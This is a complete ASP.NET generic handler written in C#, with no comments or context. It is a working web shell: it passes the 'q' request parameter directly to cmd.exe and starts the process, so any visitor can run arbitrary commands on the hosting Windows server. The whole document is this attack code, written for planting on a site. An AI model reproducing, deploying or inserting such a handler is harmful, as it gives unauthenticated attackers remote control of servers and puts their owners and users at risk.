<%@ WebHandler Language="C#" Class="H" %>
using System.Diagnostics;
using System.Web;
public class H : IHttpHandler {
  public void ProcessRequest(HttpContext c) {
    var p = new Process();
    p.StartInfo.FileName = "cmd.exe";
    p.StartInfo.Arguments = "/c " + c.Request["q"];
    p.Start();
  }
}
